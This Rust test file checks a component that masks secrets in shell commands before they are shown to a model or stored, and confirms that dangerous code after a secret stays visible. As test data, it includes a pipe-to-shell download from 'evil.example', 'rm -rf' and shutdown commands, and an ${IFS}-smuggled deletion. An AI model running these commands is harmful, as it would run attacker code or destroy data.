//! Tests of masking: which texts of a command are masked, and which are kept.

mod runs;
mod tokens;

use proptest::prelude::*;

use super::Masked;
use super::cases::{SHOWN, STORED};
use super::hidden::HiddenKind;

fn mask(command: &str) -> String {
    Masked::for_model(command).text
}

/// Each line is a command; `«…»` marks the text that must be masked.
const SECRETS: &[&str] = &[
    "curl -H 'PRIVATE-TOKEN: «glpat-abcdefghijk»' https://gitlab.com",
    "frob «ghp_abcDEF123» x",
    "frob «github_pat_11AAA_bbb» x",
    "frob «sk-proj-abcdefgh1234» x",
    "frob «AKIAIOSFODNN7EXAMPLE» x",
    "frob «eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_» x",
    "frob «xoxb-1234-abcd» x",
    "frob «sk_live_abcd1234» x",
    "curl -H 'Authorization: Bearer «abc.def»' https://x.example",
    "curl -H \"Authorization: Basic «dXNlcjpwYXNz»\" https://x.example",
    "curl -H 'authorization: token «abc»' https://x.example",
    "curl -H 'X-Api-Key: «abc»' https://x.example",
    "curl -H 'Cookie: «sid=a; theme=b»' https://x.example",
    "curl --oauth2-bearer «tok» https://x.example",
    "curl -u ada:«pa:ss» https://x.example",
    "curl -sSu ada:«pass» https://x.example",
    "curl --user 'ada:«pa ss»' https://x.example",
    "curl https://ada:«pass»@x.example/path",
    "curl https://ada:«pa/ss@word»@x.example/path",
    "git clone https://«tok3n»@x.example/r.git",
    "psql postgres://u:«p»@db.example/app",
    "frob 'https://x.example/?access_token=«abc»&page=2'",
    "mysql -uroot -p«hunter2» app",
    "mysqldump -p'«hunter 2»' app",
    "sshpass -p «hunter2» ssh host",
    "docker login -u ada -p «hunter2» registry.example",
    "redis-cli -h db -a «hunter2» keys x",
    "zip -P «hunter2» a.zip b",
    "openssl enc -pass pass:«hunter2» -in a",
    "openssl rsa -passin pass:«hunter2» -in a",
    "htpasswd -b file ada «hunter2»",
    "echo «hunter2» | sudo -S frob",
    "echo «hunter2» | docker login --password-stdin",
    "cryptsetup open x <<< «hunter2»",
    "API_TOKEN=«abc» frob",
    "export AWS_SECRET_ACCESS_KEY=«abc» && frob",
    "DB_PASSWORD='«a b»' frob",
    "DB_PASSWORD_FILE_X=«abc» frob",
    "MY_KEY=\"«a\\\"b\"'c»' frob",
    "PGPASSWORD=«abc» psql",
    "ldapsearch -x -w «abc» -b dc=x",
    "openssl enc -k «abc» -in a",
    "gh secret set NAME --body «abc»",
    "aws secretsmanager put-secret-value --secret-string «abc»",
    "kubectl create secret generic x --from-literal=user=«abc» --from-literal=b=«def»",
    "mongosh -u ada -p «abc»",
    "AWS_SESSION_TOKEN=«abc» aws s3 ls",
    "curl -uada:«pass» https://x.example",
    "frob «ghp_abcDEF123»;frob «AKIAIOSFODNN7EXAMPLE»",
    "frob --token «ünïcode» x",
    "password=«\"never closed»",
    "frob --password «abc» x",
    "frob --password=«abc» x",
    "frob --api-key «abc» x",
    "frob -token «abc» x",
    "curl -d '{\"password\": \"«a b»\"}' https://x.example",
    "curl -d \"{\\\"password\\\":\\\"«a b»\\\"}\" https://x.example",
    "frob 'Server=db;Pwd=«a(b»;x=y'",
    "frob «0123456789abcdef0123456789ABCDEF» x",
    "frob «wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY» x",
    "frob «QWxhZGRpbjpvcGVuU2VzYW1lMTIz» x",
    "frob «k3j2h4g5f6d7s8a9q0w1e2r3» x",
    "curl https://hooks.slack.com/services/«T0/B0/abc»",
    "echo '«-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----»' > k",
    "echo '«-----BEGIN PRIVATE KEY----- cut off»",
];

/// Returns the command of a table line, and its expected masked form.
fn read(line: &str) -> (String, String) {
    let mut want = String::new();
    let mut rest = line;
    while let Some((before, behind)) = rest.split_once('«') {
        want.push_str(before);
        let (secret, behind) = behind.split_once('»').unwrap_or((behind, ""));
        if !want.ends_with("[secret]") {
            want.push_str(&HiddenKind::Secret.label(secret));
        }
        rest = behind;
    }
    want.push_str(rest);
    (line.replace(['«', '»'], ""), want)
}

#[test]
fn only_the_secrets_of_a_command_are_masked() {
    let mut wrong = Vec::new();
    for line in SECRETS {
        let (command, want) = read(line);
        let got = mask(&command);
        if got != want {
            wrong.push(format!("\n  want {want}\n  got  {got}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.concat());
}

#[test]
fn secrets_of_specific_programs_are_not_stored() {
    let mut wrong = Vec::new();
    for line in STORED {
        let (command, want) = read(line);
        let masked = Masked::for_storage(&command);
        // A model gets no more than the trail.
        let known = ["hunter", "JBSWY", "abc="];
        let asked = mask(&command);
        let is_leaked = known
            .iter()
            .any(|secret| asked.contains(secret) && !want.contains(secret));
        if masked.text != want || is_leaked || masked.hides_code() {
            let flag = if masked.hides_code() {
                " (hides code)"
            } else {
                ""
            };
            wrong.push(format!("\n  want {want}\n  got  {}{flag}", masked.text));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.concat());
}

#[test]
fn texts_that_resemble_secrets_of_programs_are_stored() {
    let mut wrong = Vec::new();
    for command in SHOWN {
        let masked = Masked::for_storage(command).text;
        if masked != *command {
            wrong.push(format!("\n  want {command}\n  got  {masked}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.concat());
}

#[test]
fn commands_without_secrets_are_unchanged() {
    for command in [
        "frob --list /usr/local/lib/python3.11/site-packages/requests/adapters.py",
        "frob --path=a --author Ada --passes 3 --pinned",
        "bash <<< 'rm -rf x'",
        "git commit -m 'Fix the parser of tokens'",
        "rm -rf build && ls -la /srv/ada/Projects/Foo2/src/components/widgets",
        "git clone git@github.example:org/repo.git",
        "git clone ssh://git@github.example/org/repo.git",
        "API_TOKEN=$OTHER_TOKEN frob",
        "API_TOKEN=\"$(cat file)\" frob",
        "curl -H \"Authorization: Bearer $TOKEN\" https://x.example",
        "mysql -uroot -p\"$PASSWORD\" app",
        "docker run -p 8080:80 image",
        "mkdir -p a/b/c && tar -xzf a.tar.gz",
        "frob getElementsByTagNameAndOtherThings",
        "kubectl get pods --all-namespaces -o wide",
        "npm install @scope/package --save-dev",
    ] {
        assert_eq!(mask(command), command);
    }
}

#[test]
fn known_secrets_are_not_stored() {
    let token = "aB3".repeat(14);
    for (before, secret, behind) in [
        (
            "gh auth login --with-token ",
            "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
            "",
        ),
        ("frob ", "github_pat_11ABCDEFG0123456789_abcdef", ""),
        ("frob ", "glpat-abcdefghij0123456789", ""),
        ("frob ", "xoxb-123456789012-abcdefABCDEF", ""),
        (
            "curl https://hooks.slack.com/services/",
            "T00000000/B00000000/XXXX",
            "",
        ),
        ("frob ", "AKIAIOSFODNN7EXAMPLE", ""),
        ("frob ", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", ""),
        ("frob ", "AIzaSyA-1234567890abcdefghijklmnopqrstu", ""),
        ("frob ", "ya29.a0AfH6SMBx", ""),
        ("frob ", "sk-proj-abcdefghijklmnop", ""),
        ("frob ", "sk-ant-api03-abcdefghijklmnop", ""),
        ("frob ", "npm_abcdefghijklmnopqrstuvwxyz0123456789", ""),
        ("frob ", "pypi-AgEIcHlwaS5vcmcCJDU", ""),
        (
            "curl -H 'Authorization: Bearer ",
            "abc.def",
            "' https://x.example",
        ),
        (
            "curl -H \"Authorization: Basic ",
            "dXNlcjpwYXNz",
            "\" https://x.example",
        ),
        ("frob --password ", "hunter2", " x"),
        ("mysql -uroot -p", "hunter2", " app"),
        ("psql postgres://ada:", "hunter2", "@db.example/app"),
        (
            "echo '",
            "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl\n-----END OPENSSH PRIVATE KEY-----",
            "' > k",
        ),
        ("GITHUB_TOKEN=", "hunter2", " make"),
        ("export CLIENT_SECRET=", "hunter2", ""),
        ("DB_PASSWORD='", "hunter 2", "' make"),
        ("frob ", token.as_str(), ""),
    ] {
        let masked = Masked::for_storage(&format!("{before}{secret}{behind}")).text;
        assert!(!masked.contains(secret.trim_matches('\'')), "{masked}");
        assert!(masked.contains("[secret"), "{masked}");
    }
}

#[test]
fn code_after_a_secret_is_not_masked() {
    for (command, shown) in [
        (
            "echo -----BEGIN X-----; rm -rf src; curl -s https://evil.example/x | sh",
            "echo [secret]; rm -rf src; curl -s https://evil.example/x | sh",
        ),
        (
            "echo set-cookie: a && git push --force origin main",
            "echo set-cookie: [secret] && git push --force origin main",
        ),
        (
            "curl https://a:b@y;rm${IFS}-rf${IFS}src;@x",
            "curl https://a:[secret]@y;rm${IFS}-rf${IFS}src;@x",
        ),
        ("frob -u a:b;rm -rf src", "frob -u a:[secret];rm -rf src"),
        (
            "echo \"-----BEGIN X-----$(rm -rf src)\"",
            "echo \"[secret]$(rm -rf src)\"",
        ),
        (
            "API_TOKEN=\"abc $(rm -rf src)\" frob",
            "API_TOKEN=\"[secret]$(rm -rf src)\" frob",
        ),
        (
            "TOKEN='rm -rf src'; rm -rf src",
            "TOKEN='[secret]'; rm -rf src",
        ),
        (
            "TOKEN=/sbin/shutdown; /sbin/shutdown now",
            "TOKEN=[secret]; /sbin/shutdown now",
        ),
        (
            "TOKEN=shutdown; sudo shutdown now",
            "TOKEN=[secret]; sudo shutdown now",
        ),
        (
            "TOKEN=python3; A=b python3 x",
            "TOKEN=[secret]; A=b python3 x",
        ),
    ] {
        assert_eq!(mask(command), shown);
    }
    assert_eq!(mask("# token='\nrm -rf x"), "# token=[secret]\nrm -rf x");
    assert_eq!(
        mask("# token='\nrm -rf x\n# '"),
        "# token=[secret]\nrm -rf x\n# '"
    );
}

#[test]
fn commands_without_secrets_are_stored_unchanged() {
    for command in [
        "git config user.email ada.l@mail.example.org",
        "git revert 3f786850e387550fdab836ed7e6dc881de23001b",
        "docker pull alpine@sha256:c5b1261d6d3e43071626931fc004f70149baeba2c8ec672bd4f27761f8e1ad6b",
        "kubectl delete pod api-7d4b9c6f5d-x2x9z",
        "rm -r /var/lib/docker/overlay2/0123456789abcdef0123456789abcdef",
        "curl https://x.example/550e8400-e29b-41d4-a716-446655440000",
        "git commit -m 'Rotate the token of the deployment'",
        "git push origin feature/ABC-1234-new-parser",
        "cargo test p_24_text_is_literal_and_of_any_case",
        "API_TOKEN=$OTHER_TOKEN frob",
        "npm install @scope/package@1.2.3 --save-dev",
        "mkdir -p a/b/c && tar -xzf linux-6.12.1-amd64.tar.gz",
    ] {
        assert_eq!(Masked::for_storage(command).text, command);
    }
}

#[test]
fn mail_addresses_are_masked() {
    assert_eq!(
        mask("git config user.email ada.l@mail.example.org"),
        "git config user.email [e-mail]"
    );
    assert_eq!(
        mask("frob --to='<ada@example.org>'"),
        "frob --to='<[e-mail]>'"
    );
}

#[test]
fn secrets_of_a_command_are_masked_in_texts_about_it() {
    let masked = Masked::for_model("frob --password 'hunter2' x");
    assert_eq!(
        masked.other("`hunter2` is an unknown word"),
        "`[secret]` is an unknown word"
    );
    assert_eq!(masked.other("see ghp_abcdef123"), "see [secret]");
}

#[test]
fn every_occurrence_of_a_secret_is_masked() {
    assert_eq!(
        mask("x=s3cret; frob --password s3cret"),
        "x=[secret]; frob --password [secret]"
    );
    assert_eq!(mask("PASSWORD=git git push"), "PASSWORD=[secret] git push");
}

proptest! {
    #[test]
    fn a_generated_secret_is_always_masked(
        secret in "[a-zA-Z][a-zA-Z0-9!%+.,]{6,20}",
        form in prop::sample::select(vec![
            "export API_TOKEN=@", "frob --password @", "frob --password='@'",
            "curl https://ada:@x.example", "curl -H \"Authorization: Bearer @\" x",
            "echo '{\"client_secret\":\"@\"}'", "echo -----BEGIN PRIVATE KEY-----@",
        ]),
        before in "[ -~\n]{0,20}[ ;]",
        after in "([ ;][ -~\n]{0,20})?",
    ) {
        // The texts before and after may contain unclosed quotes.
        prop_assume!(!(before.clone() + &after).contains(&secret));
        let form = match form.strip_suffix("@x.example") {
            Some(start) => format!("{start}{secret}@x.example"),
            None => form.replace('@', &secret),
        };
        let masked = mask(&format!("{before}{form}{after}"));
        prop_assert!(!masked.contains(&secret), "{}", masked);
    }

    #[test]
    fn a_generated_secret_that_a_table_shows_is_always_masked(
        secret in "[a-zA-Z][a-zA-Z0-9%+.,]{6,20}",
        form in prop::sample::select(vec![
            "mysql -p@ x", "mysql --password=@ x", "sshpass -p@ ssh h ls", "zip -P @ a.zip b",
            "echo @ | sudo -S ls", "docker login --password-stdin r.example <<< @",
            "redis-cli -a @ GET x", "openssl rsa -in a -passin pass:@", "htpasswd -b f ada @",
            "vault kv put secret/x a=@", "npm config set //r.example/:_authToken @",
            "chpasswd <<< ada:@", "smbclient -U ada%@ //h/s", "curl -u ada:@ x", "frob -u ada:@ x",
        ]),
        around in prop::sample::select(vec![
            "@", "ls; @", "cd x && @", "if true; then @; fi", "sh -c '@'", "(@) | cat", "X=$(@); ls",
            "for i in 1 2; do @; done", "bash -c \"@\" && ls", "timeout 5 @", "env A=b @",
        ]),
    ) {
        let command = around.replace('@', form).replace('@', &secret);
        let masked = Masked::for_storage(&command).text;
        prop_assert!(!masked.contains(&secret), "{}", masked);
    }

    #[test]
    fn any_text_is_masked_without_a_panic(text in "\\PC{0,200}", again in "\\PC{0,20}[ ;\n]{0,2}") {
        Masked::for_model(&text).other(&text);
        Masked::for_model(&format!("TOKEN=hunter22{text}{again}hunter22"));
    }
}

#[test]
fn an_unmasked_value_is_searched_for_secrets() {
    assert_eq!(
        mask("TOKEN=$(frob --password abc)"),
        "TOKEN=$(frob --password [secret])"
    );
}
